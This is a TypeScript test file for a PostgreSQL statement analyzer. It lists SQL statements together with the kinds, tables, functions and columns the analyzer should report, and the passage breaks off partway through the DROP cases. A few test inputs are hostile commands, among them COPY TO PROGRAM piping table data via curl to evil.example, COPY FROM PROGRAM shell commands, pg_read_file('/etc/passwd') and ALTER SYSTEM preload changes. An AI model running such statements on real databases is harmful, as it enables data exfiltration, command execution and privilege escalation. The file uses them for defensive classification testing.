import { beforeAll, describe, expect, it } from 'vitest';
import { SqlAnalyzer, STATEMENT_KINDS, type StatementAnalysis, type StatementKind, type TableRef } from './index.js';

/**
 * One row per single-statement text: what the analyzer must report. Omitted lists must be empty,
 * so every row states everything the statement touches. Names are written `schema.name` or `name`
 * (quoted identifiers that contain a dot are tested separately).
 */
interface Case {
  readonly sql: string;
  readonly kinds: readonly StatementKind[];
  readonly read?: readonly string[];
  readonly written?: readonly string[];
  readonly functions?: readonly string[];
  /** checked only when given: `table.column`, `schema.table.column` or `column` */
  readonly columns?: readonly string[];
  readonly unbounded?: boolean;
}

const QUERIES: readonly Case[] = [
  { sql: 'SELECT 1', kinds: ['select'] },
  { sql: 'SELECT * FROM users', kinds: ['select'], read: ['users'], columns: ['*'] },
  { sql: 'SELECT id, name FROM public.users WHERE id = $1', kinds: ['select'], read: ['public.users'], columns: ['id', 'name'] },
  { sql: 'VALUES (1, 2), (3, 4)', kinds: ['select'] },
  { sql: 'TABLE users', kinds: ['select'], read: ['users'] },
  { sql: 'SELECT * FROM ONLY parent', kinds: ['select'], read: ['parent'] },
  { sql: 'SELECT u.name FROM users u JOIN orders o ON o.user_id = u.id', kinds: ['select'], read: ['users', 'orders'], columns: ['users.name', 'orders.user_id', 'users.id'] },
  { sql: 'SELECT * FROM a LEFT JOIN b USING (id) FULL JOIN c ON true CROSS JOIN d', kinds: ['select'], read: ['a', 'b', 'c', 'd'] },
  { sql: 'SELECT * FROM a, b NATURAL JOIN c', kinds: ['select'], read: ['a', 'b', 'c'] },
  { sql: 'SELECT * FROM (SELECT * FROM inner_t) sub', kinds: ['select'], read: ['inner_t'] },
  { sql: 'SELECT * FROM t WHERE id IN (SELECT t_id FROM u)', kinds: ['select'], read: ['t', 'u'] },
  { sql: 'SELECT * FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.id = t.id)', kinds: ['select'], read: ['t', 'u'] },
  { sql: 'SELECT (SELECT max(x) FROM u) AS m FROM t', kinds: ['select'], read: ['t', 'u'], functions: ['max'] },
  { sql: 'SELECT * FROM t, LATERAL (SELECT * FROM u WHERE u.t = t.id) l', kinds: ['select'], read: ['t', 'u'] },
  { sql: 'SELECT a FROM t UNION SELECT a FROM u EXCEPT SELECT a FROM v INTERSECT SELECT a FROM w', kinds: ['select'], read: ['t', 'u', 'v', 'w'] },
  { sql: '(SELECT 1 FROM t) UNION ALL (SELECT 2 FROM u) ORDER BY 1 LIMIT 5', kinds: ['select'], read: ['t', 'u'] },
  { sql: 'SELECT * FROM (VALUES (1), (2)) v(x)', kinds: ['select'] },
  { sql: 'SELECT count(*) FROM t GROUP BY a HAVING sum(b) > (SELECT 1 FROM h)', kinds: ['select'], read: ['t', 'h'], functions: ['count', 'sum'] },
  { sql: 'SELECT row_number() OVER (PARTITION BY a ORDER BY b) FROM t', kinds: ['select'], read: ['t'], functions: ['row_number'] },
  { sql: 'SELECT * FROM t TABLESAMPLE BERNOULLI (10)', kinds: ['select'], read: ['t'] },
  { sql: 'SELECT * FROM t FOR UPDATE', kinds: ['select', 'lock'], read: ['t'] },
  { sql: 'SELECT * FROM t FOR SHARE SKIP LOCKED', kinds: ['select', 'lock'], read: ['t'] },
  { sql: 'SELECT t.* FROM t', kinds: ['select'], read: ['t'], columns: ['t.*'] },
  { sql: 'SELECT s.t.c FROM s.t', kinds: ['select'], read: ['s.t'], columns: ['s.t.c'] },
  { sql: 'SELECT x.a FROM (SELECT 1 AS a) x', kinds: ['select'], columns: ['x.a'] },
  // A bare alias or table name is the whole row: every column.
  { sql: 'SELECT row_to_json(u) FROM hr.users u', kinds: ['select'], read: ['hr.users'], functions: ['row_to_json'], columns: ['u', 'hr.users.*'] },
  { sql: 'SELECT secrets FROM secrets', kinds: ['select'], read: ['secrets'], columns: ['secrets', 'secrets.*'] },
  { sql: 'SELECT CASE WHEN a THEN b ELSE c END FROM t', kinds: ['select'], read: ['t'] },
  { sql: "SELECT a::text, CAST(b AS int), c || 'x' FROM t", kinds: ['select'], read: ['t'] },
  { sql: 'SELECT * FROM t WHERE a = ANY(ARRAY(SELECT b FROM u))', kinds: ['select'], read: ['t', 'u'] },
  { sql: 'SELECT ROW(a, b) = ROW(1, 2) FROM t', kinds: ['select'], read: ['t'] },
];

const DATA_CHANGES: readonly Case[] = [
  { sql: 'INSERT INTO t (a) VALUES (1)', kinds: ['insert'], written: ['t'] },
  { sql: 'INSERT INTO t DEFAULT VALUES', kinds: ['insert'], written: ['t'] },
  { sql: 'INSERT INTO s.t VALUES (1), (2)', kinds: ['insert'], written: ['s.t'] },
  { sql: 'INSERT INTO t SELECT * FROM u', kinds: ['insert', 'select'], read: ['u'], written: ['t'] },
  { sql: 'INSERT INTO t VALUES ((SELECT max(a) FROM u))', kinds: ['insert'], read: ['u'], written: ['t'], functions: ['max'] },
  { sql: 'INSERT INTO t VALUES (1) RETURNING *', kinds: ['insert'], read: ['t'], written: ['t'] },
  { sql: 'INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING', kinds: ['insert'], read: ['t'], written: ['t'] },
  { sql: 'INSERT INTO t AS x VALUES (1) ON CONFLICT (a) DO UPDATE SET b = excluded.b WHERE x.c', kinds: ['insert', 'update'], read: ['t'], written: ['t'], columns: ['excluded.b', 't.c'] },
  { sql: 'INSERT INTO t (a) VALUES (nextval(\'s\'))', kinds: ['insert'], written: ['t'], functions: ['nextval'] },
  { sql: 'UPDATE t SET a = 1 WHERE id = 2', kinds: ['update'], read: ['t'], written: ['t'] },
  { sql: 'UPDATE t SET a = 1', kinds: ['update'], read: ['t'], written: ['t'], unbounded: true },
  { sql: 'UPDATE t SET a = o.a FROM other o WHERE o.id = t.id', kinds: ['update'], read: ['t', 'other'], written: ['t'], columns: ['other.a', 'other.id', 't.id'] },
  { sql: 'UPDATE t SET (a, b) = (SELECT x, y FROM u) WHERE true', kinds: ['update'], read: ['t', 'u'], written: ['t'] },
  { sql: 'UPDATE ONLY s.t AS x SET a = 1 WHERE x.id = 1 RETURNING x.a', kinds: ['update'], read: ['s.t'], written: ['s.t'], columns: ['s.t.id', 's.t.a'] },
  { sql: 'UPDATE t SET a = 1 WHERE CURRENT OF c', kinds: ['update'], read: ['t'], written: ['t'] },
  { sql: 'DELETE FROM t WHERE id = 1', kinds: ['delete'], read: ['t'], written: ['t'] },
  { sql: 'DELETE FROM t', kinds: ['delete'], read: ['t'], written: ['t'], unbounded: true },
  { sql: 'DELETE FROM t USING u WHERE t.id = u.id', kinds: ['delete'], read: ['t', 'u'], written: ['t'] },
  { sql: 'DELETE FROM t WHERE CURRENT OF c', kinds: ['delete'], read: ['t'], written: ['t'] },
  { sql: 'DELETE FROM t WHERE id IN (SELECT id FROM u) RETURNING *', kinds: ['delete'], read: ['t', 'u'], written: ['t'] },
  {
    sql: 'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a WHEN NOT MATCHED THEN INSERT VALUES (s.id)',
    kinds: ['merge', 'update', 'insert'], read: ['t', 's'], written: ['t'], unbounded: true,
  },
  {
    sql: 'MERGE INTO t USING (SELECT * FROM src) s ON t.id = s.id WHEN MATCHED AND s.gone THEN DELETE WHEN MATCHED THEN DO NOTHING',
    kinds: ['merge', 'delete'], read: ['t', 'src'], written: ['t'], unbounded: true,
  },
  {
    sql: 'MERGE INTO t USING s ON true WHEN NOT MATCHED BY SOURCE THEN DELETE',
    kinds: ['merge', 'delete'], read: ['t', 's'], written: ['t'], unbounded: true,
  },
  { sql: 'MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED THEN INSERT VALUES (s.id)', kinds: ['merge', 'insert'], read: ['t', 's'], written: ['t'] },
];

const CTES: readonly Case[] = [
  { sql: 'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', kinds: ['select', 'delete'], read: ['t'], written: ['t'], unbounded: true },
  { sql: 'WITH d AS (DELETE FROM t WHERE old RETURNING *) INSERT INTO archive SELECT * FROM d', kinds: ['insert', 'delete', 'select'], read: ['t'], written: ['archive', 't'] },
  { sql: 'WITH u AS (UPDATE t SET a = 1 RETURNING id) SELECT count(*) FROM u', kinds: ['select', 'update'], read: ['t'], written: ['t'], functions: ['count'], unbounded: true },
  { sql: 'WITH i AS (INSERT INTO t VALUES (1) RETURNING id) SELECT * FROM i', kinds: ['select', 'insert'], read: ['t'], written: ['t'] },
  { sql: 'WITH a AS (SELECT * FROM t) SELECT * FROM a', kinds: ['select'], read: ['t'] },
  { sql: 'WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b', kinds: ['select'] },
  // Non-recursive: inside its own definition `t` is the real table; after the WITH it is the CTE.
  { sql: 'WITH t AS (SELECT * FROM t) SELECT * FROM t', kinds: ['select'], read: ['t'] },
  // A later sibling is not yet visible to an earlier CTE: `b` there is a table.
  { sql: 'WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a, b', kinds: ['select'], read: ['b'] },
  { sql: 'WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10) SELECT * FROM r', kinds: ['select'] },
  { sql: 'WITH RECURSIVE a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a', kinds: ['select'] },
  // A WITH inside a subquery does not leak: the outer `t` is the table.
  { sql: 'SELECT * FROM (WITH t AS (SELECT 1) SELECT * FROM t) x, t', kinds: ['select'], read: ['t'] },
  // An enclosing WITH is visible in nested subqueries.
  { sql: 'WITH c AS (SELECT 1) SELECT * FROM t WHERE EXISTS (SELECT 1 FROM c)', kinds: ['select'], read: ['t'] },
  // A schema-qualified name is never a CTE.
  { sql: 'WITH t AS (SELECT 1) SELECT * FROM public.t', kinds: ['select'], read: ['public.t'] },
  // A DML target is never a CTE in PostgreSQL.
  { sql: 'WITH t AS (SELECT 1) DELETE FROM t WHERE true', kinds: ['delete'], read: ['t'], written: ['t'] },
  {
    sql: 'WITH a AS (WITH b AS (DELETE FROM deep RETURNING *) SELECT * FROM b) SELECT * FROM a',
    kinds: ['select', 'delete'], read: ['deep'], written: ['deep'], unbounded: true,
  },
  { sql: 'WITH x AS MATERIALIZED (SELECT secret() FROM t) SELECT * FROM x', kinds: ['select'], read: ['t'], functions: ['secret'] },
  { sql: 'INSERT INTO t WITH s AS (SELECT * FROM src) SELECT * FROM s', kinds: ['insert', 'select'], read: ['src'], written: ['t'] },
  { sql: 'WITH m AS (MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE RETURNING *) SELECT * FROM m', kinds: ['select', 'merge', 'delete'], read: ['t', 's'], written: ['t'], unbounded: true },
];

const EXPLAIN_PREPARE: readonly Case[] = [
  { sql: 'EXPLAIN SELECT * FROM t', kinds: ['explain'], read: ['t'] },
  { sql: 'EXPLAIN DELETE FROM t', kinds: ['explain'], read: ['t'] },
  { sql: 'EXPLAIN ANALYZE DELETE FROM t', kinds: ['delete', 'explain'], read: ['t'], written: ['t'], unbounded: true },
  { sql: 'EXPLAIN ANALYZE SELECT * FROM t', kinds: ['select', 'explain'], read: ['t'] },
  { sql: 'EXPLAIN ANALYSE VERBOSE UPDATE t SET a = 1 WHERE b', kinds: ['update', 'explain'], read: ['t'], written: ['t'] },
  { sql: 'EXPLAIN (ANALYZE true) DELETE FROM t WHERE id = 1', kinds: ['delete', 'explain'], read: ['t'], written: ['t'] },
  { sql: 'EXPLAIN (ANALYZE) INSERT INTO t VALUES (1)', kinds: ['insert', 'explain'], written: ['t'] },
  { sql: 'EXPLAIN (ANALYZE 1, FORMAT JSON) DELETE FROM t WHERE a', kinds: ['delete', 'explain'], read: ['t'], written: ['t'] },
  { sql: 'EXPLAIN (ANALYZE false) DELETE FROM t', kinds: ['explain'], read: ['t'] },
  { sql: 'EXPLAIN (ANALYZE off, COSTS on) DELETE FROM t', kinds: ['explain'], read: ['t'] },
  { sql: "EXPLAIN (ANALYZE 'FALSE') DELETE FROM t", kinds: ['explain'], read: ['t'] },
  { sql: 'EXPLAIN (ANALYZE 0) DELETE FROM t', kinds: ['explain'], read: ['t'] },
  // Repeated options: PostgreSQL keeps the last, we take any that is on.
  { sql: 'EXPLAIN (ANALYZE false, ANALYZE true) DELETE FROM t', kinds: ['delete', 'explain'], read: ['t'], written: ['t'], unbounded: true },
  { sql: 'EXPLAIN SELECT pg_sleep(10)', kinds: ['explain'], functions: ['pg_sleep'] },
  { sql: 'EXPLAIN ANALYZE CREATE TABLE x AS SELECT * FROM t', kinds: ['create_table_as', 'create_table', 'select', 'explain'], read: ['t'], written: ['x'] },
  { sql: 'EXPLAIN WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', kinds: ['explain'], read: ['t'] },
  { sql: 'PREPARE p AS SELECT * FROM t WHERE id = $1', kinds: ['prepare', 'select'], read: ['t'] },
  { sql: 'PREPARE p (int) AS DELETE FROM t WHERE id = $1', kinds: ['prepare', 'delete'], read: ['t'], written: ['t'] },
  { sql: 'PREPARE p AS DELETE FROM t', kinds: ['prepare', 'delete'], read: ['t'], written: ['t'], unbounded: true },
  { sql: 'PREPARE p AS INSERT INTO t SELECT lo_import($1)', kinds: ['prepare', 'insert', 'select'], written: ['t'], functions: ['lo_import'] },
  { sql: 'EXECUTE p', kinds: ['execute'] },
  { sql: 'EXECUTE p(1, pg_read_file(\'/etc/passwd\'))', kinds: ['execute'], functions: ['pg_read_file'] },
  { sql: 'EXPLAIN ANALYZE EXECUTE p', kinds: ['execute', 'explain'] },
  { sql: 'DEALLOCATE p', kinds: ['deallocate'] },
  { sql: 'DEALLOCATE ALL', kinds: ['deallocate'] },
];

const CREATE_AS_AND_COPY: readonly Case[] = [
  { sql: 'SELECT * INTO newt FROM t', kinds: ['create_table_as', 'create_table', 'select'], read: ['t'], written: ['newt'] },
  { sql: 'SELECT a INTO TEMP s.newt FROM t', kinds: ['create_table_as', 'create_table', 'select'], read: ['t'], written: ['s.newt'] },
  { sql: 'CREATE TABLE x AS SELECT * FROM t', kinds: ['create_table_as', 'create_table', 'select'], read: ['t'], written: ['x'] },
  { sql: 'CREATE TABLE x AS VALUES (1)', kinds: ['create_table_as', 'create_table'], written: ['x'] },
  { sql: 'CREATE TABLE x AS WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', kinds: ['create_table_as', 'create_table', 'select', 'delete'], read: ['t'], written: ['x', 't'], unbounded: true },
  // PostgreSQL rejects INTO below the top level; the parser does not, and neither do we.
  { sql: 'SELECT * FROM (SELECT * INTO x FROM t) s', kinds: ['select', 'create_table_as', 'create_table'], read: ['t'], written: ['x'] },
  { sql: 'CREATE TABLE x AS EXECUTE p', kinds: ['create_table_as', 'create_table', 'execute'], written: ['x'] },
  { sql: 'CREATE MATERIALIZED VIEW mv AS SELECT * FROM t WITH NO DATA', kinds: ['create_materialized_view', 'select'], read: ['t'], written: ['mv'] },
  { sql: 'REFRESH MATERIALIZED VIEW CONCURRENTLY mv', kinds: ['refresh_materialized_view'], written: ['mv'] },
  { sql: 'COPY t TO STDOUT', kinds: ['copy_to'], read: ['t'], columns: ['t.*'] },
  { sql: 'COPY t (a, b) TO STDOUT WITH (FORMAT csv)', kinds: ['copy_to'], read: ['t'], columns: ['t.a', 't.b'] },
  { sql: 'COPY (SELECT * FROM t JOIN u USING (id)) TO STDOUT', kinds: ['copy_to', 'select'], read: ['t', 'u'] },
  { sql: 'COPY (DELETE FROM t RETURNING *) TO STDOUT', kinds: ['copy_to', 'delete'], read: ['t'], written: ['t'], unbounded: true },
  { sql: 'COPY t FROM STDIN', kinds: ['copy_from'], written: ['t'] },
  { sql: "COPY t FROM '/etc/passwd'", kinds: ['copy_from_file', 'copy_from'], written: ['t'] },
  { sql: "COPY t TO '/tmp/out.csv'", kinds: ['copy_to_file', 'copy_to'], read: ['t'], columns: ['t.*'] },
  { sql: "COPY t TO PROGRAM 'curl -d @- evil.example'", kinds: ['copy_to_program', 'copy_to'], read: ['t'], columns: ['t.*'] },
  { sql: "COPY t FROM PROGRAM 'id'", kinds: ['copy_from_program', 'copy_from'], written: ['t'] },
  { sql: "COPY (SELECT 1) TO PROGRAM 'sh -c x'", kinds: ['copy_to_program', 'copy_to', 'select'] },
  { sql: 'COPY t FROM STDIN WHERE a > f(1)', kinds: ['copy_from'], written: ['t'], functions: ['f'] },
];

const CREATE: readonly Case[] = [
  { sql: 'CREATE TABLE t (id int PRIMARY KEY, a text)', kinds: ['create_table'], written: ['t'] },
  { sql: 'CREATE TEMP TABLE IF NOT EXISTS s.t (a int DEFAULT nextval(\'seq\') CHECK (a > abs(-1)))', kinds: ['create_table'], written: ['s.t'], functions: ['nextval', 'abs'] },
  { sql: 'CREATE TABLE t (a int REFERENCES other (id), b timestamptz DEFAULT now())', kinds: ['create_table'], read: ['other'], written: ['t'], functions: ['now'] },
  { sql: 'CREATE TABLE t (a int GENERATED ALWAYS AS (g(b)) STORED, b int)', kinds: ['create_table'], written: ['t'], functions: ['g'] },
  { sql: 'CREATE TABLE t (LIKE src INCLUDING ALL)', kinds: ['create_table'], read: ['src'], written: ['t'] },
  { sql: 'CREATE TABLE c () INHERITS (p)', kinds: ['create_table'], read: ['p'], written: ['c'] },
  { sql: 'CREATE TABLE c PARTITION OF p FOR VALUES IN (1)', kinds: ['create_table'], written: ['c', 'p'] },
  { sql: 'CREATE UNLOGGED TABLE t (a int) PARTITION BY RANGE (a)', kinds: ['create_table'], written: ['t'] },
  { sql: 'CREATE VIEW v AS SELECT * FROM t WHERE f(a)', kinds: ['create_view'], read: ['t'], written: ['v'], functions: ['f'] },
  { sql: 'CREATE OR REPLACE RECURSIVE VIEW v (n) AS SELECT 1', kinds: ['create_view'], written: ['v'] },
  { sql: 'CREATE INDEX ON t (lower(email)) WHERE deleted_at IS NULL', kinds: ['create_index'], written: ['t'], functions: ['lower'] },
  { sql: 'CREATE UNIQUE INDEX CONCURRENTLY i ON s.t USING btree (a, b)', kinds: ['create_index'], written: ['s.t'] },
  { sql: 'CREATE SEQUENCE s START 10', kinds: ['create_sequence'], written: ['s'] },
  { sql: 'CREATE SCHEMA app', kinds: ['create_schema'] },
  { sql: 'CREATE SCHEMA app CREATE TABLE t (a int) CREATE VIEW v AS SELECT * FROM t', kinds: ['create_schema', 'create_table', 'create_view'], read: ['t'], written: ['app.t', 'app.v'] },
  { sql: 'CREATE DATABASE d OWNER bob', kinds: ['create_database'] },
  { sql: "CREATE ROLE r LOGIN SUPERUSER PASSWORD 'x'", kinds: ['create_role'] },
  { sql: 'CREATE USER u', kinds: ['create_role'] },
  { sql: 'CREATE GROUP g', kinds: ['create_role'] },
  { sql: 'CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT * FROM secret; DROP TABLE t $$', kinds: ['create_function'] },
  { sql: 'CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT g(); DELETE FROM t; END', kinds: ['create_function'] },
  { sql: 'CREATE OR REPLACE FUNCTION f(a int DEFAULT d()) RETURNS int LANGUAGE sql RETURN a', kinds: ['create_function'], functions: ['d'] },
  { sql: "CREATE PROCEDURE p() LANGUAGE plpgsql AS 'begin end'", kinds: ['create_procedure'] },
  { sql: 'CREATE TRIGGER tg BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION s.trg()', kinds: ['create_trigger'], written: ['t'], functions: ['s.trg'] },
  { sql: 'CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION audit()', kinds: ['create_event_trigger'], functions: ['audit'] },
  { sql: 'CREATE EXTENSION IF NOT EXISTS dblink', kinds: ['create_extension'] },
  { sql: "CREATE TYPE mood AS ENUM ('sad', 'ok')", kinds: ['create_type'] },
  { sql: 'CREATE TYPE pair AS (a int, b int)', kinds: ['create_type'] },
  { sql: 'CREATE TYPE r AS RANGE (subtype = int4)', kinds: ['create_type'] },
  { sql: 'CREATE DOMAIN pos AS int CHECK (VALUE > 0)', kinds: ['create_domain'] },
  { sql: 'CREATE AGGREGATE agg (int) (sfunc = int4pl, stype = int)', kinds: ['create_aggregate'] },
  { sql: 'CREATE OPERATOR === (leftarg = int, rightarg = int, function = int4eq)', kinds: ['create_operator'] },
  { sql: 'CREATE TEXT SEARCH DICTIONARY d (template = simple)', kinds: ['create_text_search'] },
  { sql: "CREATE COLLATION c (locale = 'C')", kinds: ['create_collation'] },
  { sql: 'CREATE POLICY p ON t USING (owner = current_user AND f())', kinds: ['create_policy'], written: ['t'], functions: ['f'] },
  { sql: 'CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u', kinds: ['create_rule'], read: ['u'], written: ['t'] },
  { sql: "CREATE SERVER srv FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'x')", kinds: ['create_server'] },
  { sql: 'CREATE FOREIGN TABLE ft (a int) SERVER srv', kinds: ['create_foreign_table'], written: ['ft'] },
  { sql: 'CREATE FOREIGN DATA WRAPPER w', kinds: ['create_foreign_data_wrapper'] },
  { sql: "CREATE USER MAPPING FOR bob SERVER srv OPTIONS (user 'x')", kinds: ['create_user_mapping'] },
  { sql: 'CREATE PUBLICATION pub FOR TABLE secrets', kinds: ['create_publication'], read: ['secrets'] },
  { sql: "CREATE SUBSCRIPTION sub CONNECTION 'host=x' PUBLICATION pub", kinds: ['create_subscription'] },
  { sql: "CREATE TABLESPACE ts LOCATION '/data'", kinds: ['create_tablespace'] },
  { sql: 'CREATE LANGUAGE l HANDLER h', kinds: ['create_language'] },
  // PostgreSQL reads a parameterless CREATE LANGUAGE as CREATE EXTENSION, and so does the parser.
  { sql: 'CREATE LANGUAGE plperlu', kinds: ['create_extension'] },
  { sql: 'CREATE OPERATOR CLASS oc FOR TYPE int USING btree AS OPERATOR 1 <', kinds: ['create_operator_class'] },
  { sql: 'CREATE OPERATOR FAMILY opf USING btree', kinds: ['create_operator_family'] },
  { sql: 'CREATE TRANSFORM FOR int LANGUAGE sql (FROM SQL WITH FUNCTION f(internal), TO SQL WITH FUNCTION g(internal))', kinds: ['create_transform'] },
  { sql: 'CREATE STATISTICS st ON a, b FROM t', kinds: ['create_statistics'], read: ['t'] },
  { sql: 'CREATE CAST (text AS int) WITH FUNCTION f(text)', kinds: ['create_cast'] },
  { sql: 'CREATE ACCESS METHOD am TYPE TABLE HANDLER heap_tableam_handler', kinds: ['create_access_method'] },
  { sql: 'CREATE CONVERSION c FOR \'LATIN1\' TO \'UTF8\' FROM iso8859_1_to_utf8', kinds: ['create_conversion'] },
];

const ALTER: readonly Case[] = [
  { sql: 'ALTER TABLE t ADD COLUMN c int DEFAULT f()', kinds: ['alter_table'], written: ['t'], functions: ['f'] },
  { sql: 'ALTER TABLE s.t DROP COLUMN c', kinds: ['alter_table'], written: ['s.t'] },
  { sql: 'ALTER TABLE t ADD CONSTRAINT fk FOREIGN KEY (a) REFERENCES other (id)', kinds: ['alter_table'], read: ['other'], written: ['t'] },
  { sql: 'ALTER TABLE t ALTER COLUMN a TYPE bigint USING conv(a)', kinds: ['alter_table'], written: ['t'], functions: ['conv'] },
  { sql: 'ALTER TABLE t DISABLE ROW LEVEL SECURITY', kinds: ['alter_table'], written: ['t'] },
  { sql: 'ALTER TABLE p ATTACH PARTITION c FOR VALUES IN (1)', kinds: ['alter_table'], written: ['p', 'c'] },
  { sql: 'ALTER TABLE t RENAME TO u', kinds: ['alter_table'], written: ['t'] },
  { sql: 'ALTER TABLE t RENAME COLUMN a TO b', kinds: ['alter_table'], written: ['t'] },
  { sql: 'ALTER TABLE t RENAME CONSTRAINT a TO b', kinds: ['alter_table'], written: ['t'] },
  { sql: 'ALTER TABLE t SET SCHEMA archive', kinds: ['alter_table'], written: ['t'] },
  { sql: 'ALTER TABLE t OWNER TO mallory', kinds: ['alter_table'], written: ['t'] },
  { sql: 'ALTER VIEW v RENAME COLUMN a TO b', kinds: ['alter_view'], written: ['v'] },
  { sql: 'ALTER VIEW v OWNER TO bob', kinds: ['alter_view'], written: ['v'] },
  { sql: 'ALTER MATERIALIZED VIEW mv SET TABLESPACE ts', kinds: ['alter_materialized_view'], written: ['mv'] },
  { sql: 'ALTER INDEX i RENAME TO j', kinds: ['alter_index'], written: ['i'] },
  { sql: 'ALTER SEQUENCE s RESTART', kinds: ['alter_sequence'], written: ['s'] },
  { sql: 'ALTER SCHEMA s RENAME TO t', kinds: ['alter_schema'] },
  { sql: 'ALTER SCHEMA s OWNER TO bob', kinds: ['alter_schema'] },
  { sql: 'ALTER DATABASE d SET search_path = evil', kinds: ['alter_database'] },
  { sql: 'ALTER DATABASE d RENAME TO e', kinds: ['alter_database'] },
  { sql: 'ALTER ROLE bob SUPERUSER', kinds: ['alter_role'] },
  { sql: 'ALTER ROLE bob SET role = admin', kinds: ['alter_role'] },
  { sql: 'ALTER USER bob RENAME TO alice', kinds: ['alter_role'] },
  { sql: 'ALTER SYSTEM SET shared_preload_libraries = \'evil\'', kinds: ['alter_system'] },
  { sql: 'ALTER SYSTEM RESET ALL', kinds: ['alter_system'] },
  { sql: 'ALTER FUNCTION f(int) SECURITY DEFINER', kinds: ['alter_function'] },
  { sql: 'ALTER PROCEDURE p() OWNER TO bob', kinds: ['alter_procedure'] },
  { sql: 'ALTER ROUTINE r() STABLE', kinds: ['alter_function', 'alter_procedure'] },
  { sql: "ALTER TYPE mood ADD VALUE 'happy'", kinds: ['alter_type'] },
  { sql: 'ALTER TYPE pair ADD ATTRIBUTE c int', kinds: ['alter_type'] },
  { sql: 'ALTER TYPE pair RENAME ATTRIBUTE a TO x', kinds: ['alter_type'] },
  { sql: 'ALTER DOMAIN pos DROP CONSTRAINT c', kinds: ['alter_domain'] },
  { sql: 'ALTER EXTENSION e UPDATE', kinds: ['alter_extension'] },
  { sql: 'ALTER POLICY p ON t USING (true)', kinds: ['alter_policy'], written: ['t'] },
  { sql: 'ALTER TRIGGER tg ON t RENAME TO tg2', kinds: ['alter_trigger'], written: ['t'] },
  { sql: 'ALTER SERVER srv OPTIONS (SET host \'y\')', kinds: ['alter_server'] },
  { sql: 'ALTER FOREIGN TABLE ft ADD COLUMN b int', kinds: ['alter_foreign_table'], written: ['ft'] },
  { sql: 'ALTER PUBLICATION pub ADD TABLE more_secrets', kinds: ['alter_publication'], read: ['more_secrets'] },
  { sql: 'ALTER LARGE OBJECT 1 OWNER TO bob', kinds: ['alter_large_object'] },
  { sql: 'ALTER DEFAULT PRIVILEGES IN SCHEMA s GRANT SELECT ON TABLES TO bob', kinds: ['alter_default_privileges', 'grant'] },
  { sql: 'ALTER DEFAULT PRIVILEGES REVOKE ALL ON FUNCTIONS FROM PUBLIC', kinds: ['alter_default_privileges', 'revoke'] },
  { sql: 'ALTER TABLESPACE ts RENAME TO ts2', kinds: ['alter_tablespace'] },
  { sql: 'ALTER STATISTICS st SET STATISTICS 100', kinds: ['alter_statistics'] },
  { sql: 'ALTER SUBSCRIPTION sub DISABLE', kinds: ['alter_subscription'] },
  { sql: 'ALTER AGGREGATE agg(int) RENAME TO agg2', kinds: ['alter_aggregate'] },
  { sql: 'ALTER OPERATOR === (int, int) OWNER TO bob', kinds: ['alter_operator'] },
  { sql: 'ALTER OPERATOR CLASS oc USING btree RENAME TO oc2', kinds: ['alter_operator_class'] },
  { sql: 'ALTER OPERATOR FAMILY opf USING btree ADD OPERATOR 1 < (int, int)', kinds: ['alter_operator_family'] },
  { sql: 'ALTER EVENT TRIGGER et DISABLE', kinds: ['alter_event_trigger'] },
  { sql: 'ALTER RULE r ON t RENAME TO r2', kinds: ['alter_rule'], written: ['t'] },
  { sql: 'ALTER COLLATION c REFRESH VERSION', kinds: ['alter_collation'] },
  { sql: 'ALTER CONVERSION c RENAME TO d', kinds: ['alter_conversion'] },
  { sql: 'ALTER LANGUAGE plpgsql OWNER TO bob', kinds: ['alter_language'] },
  { sql: 'ALTER TEXT SEARCH DICTIONARY d (stopwords = none)', kinds: ['alter_text_search'] },
  { sql: "ALTER FOREIGN DATA WRAPPER w OPTIONS (x 'y')", kinds: ['alter_foreign_data_wrapper'] },
  { sql: "ALTER USER MAPPING FOR bob SERVER srv OPTIONS (SET user 'z')", kinds: ['alter_user_mapping'] },
];

const DROP: readonly Case[] = [
  { sql: 'DROP TABLE t', kinds: ['drop_table'], written: ['t'] },
  { sql: 'DROP TABLE IF EXISTS a, s.b CASCADE', kinds: ['drop_table'], written: ['a', 's.b'] },
  { sql: 'DROP VIEW v', kinds: ['drop_view'], written: ['v'] },
  { sql: 'DROP MATERIALIZED VIEW mv', kinds: ['drop_materialized_view'], written: ['mv'] },
  { sql: 'DROP INDEX CONCURRENTLY s.i', kinds: ['drop_index'], written: ['s.i'] },
  { sql: 'DROP SEQUENCE s', kinds: ['drop_sequence'], written: ['s'] },
  { sql: 'DROP FOREIGN TABLE ft', kinds: ['drop_foreign_table'], written: ['ft'] },
  { sql: 'DROP SCHEMA s CASCADE', kinds: ['drop_schema'] },
  { sql: 'DROP DATABASE d WITH (FORCE)', kinds: ['drop_database'] },
  { sql: 'DROP ROLE IF EXISTS r', kinds: ['drop_role'] },
  { sql: 'DROP USER u', kinds: ['drop_role'] },
  { sql: 'DROP FUNCTION f(int)', kinds: ['drop_function'] },
  { sql: 'DROP PROCEDURE p', kinds: ['drop_procedure'] },
  { sql: 'DROP ROUTINE r', kinds: ['drop_function', 'drop_procedure'] },
  { sql: 'DROP AGGREGATE agg(int)', kinds: ['drop_aggregate'] },
  { sql: 'DROP EXTENSION e', kinds: ['drop_extension'] },
  { sql: 'DROP TYPE mood, s.pair', kinds: ['drop_type'] },
  { sql: 'DROP DOMAIN pos', kinds: ['drop_domain'] },
  { sql: 'DROP TRIGGER tg ON s.t', kinds: ['drop_trigger'], written: ['s.t'] },
  { sql: 'DROP POLICY p ON t', kinds: ['drop_policy'], written: ['t'] },
